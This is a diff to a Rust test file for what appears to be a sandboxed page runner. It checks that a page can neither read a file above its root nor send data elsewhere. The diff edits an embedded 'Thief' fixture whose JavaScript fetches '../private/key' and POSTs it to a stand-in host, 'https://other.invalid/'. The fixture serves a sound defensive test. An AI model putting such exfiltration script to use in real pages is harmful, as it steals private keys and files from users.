@@ -5,7 +5,7 @@ use super::home::Home;
 /// A page that reads a file above it and sends what it finds elsewhere.
 const THIEF: &str = r#"<title>Thief</title><script src="../lib.js"></script><p id="found">nothing</p>
 <script>
-const send = text => fetch('http://127.0.0.1:9/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});
+const send = text => fetch('https://other.invalid/', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});
 fetch('../private/key').then(it => it.ok ? it.text() : '').then(text => { if (text) found.textContent = text; return send(text) });
 </script>"#;
 
@@ -25,15 +25,20 @@ fn a_page_reads_nothing_above_it_and_sends_nothing_elsewhere() {
         let ran = home.done(home.run(trace, device, &[]));
         ran.expect(
             0,
-            &["the device lacked http://127.0.0.1:9: ", "allow=http://127.0.0.1:9", "lacked ../lib.js: ", "root="],
+            &[
+                "the device lacked https://other.invalid: ",
+                "allow=https://other.invalid",
+                "lacked ../lib.js: ",
+                "root=",
+            ],
         );
         let ran = home.done(home.check(trace, device, &["--cases", "3"]));
-        ran.expect(0, &["the device lacked http://127.0.0.1:9 in 3"]);
+        ran.expect(0, &["the device lacked https://other.invalid in 3"]);
     }
     // Who asks for more has more.
     let root = format!("root={}", home.path("").display());
     let ran = home.done(home.run(trace, &page, &["--with", &root]));
-    ran.expect(1, &["the device lacked http://127.0.0.1:9"]);
+    ran.expect(1, &["the device lacked https://other.invalid"]);
     for (root, words) in [("/", "is never served"), ("/etc", "a directory that the page is in")] {
         let ran = home.done(home.run(trace, &page, &["--with", &format!("root={root}")]));
         ran.expect(3, &["cannot be started", words]);
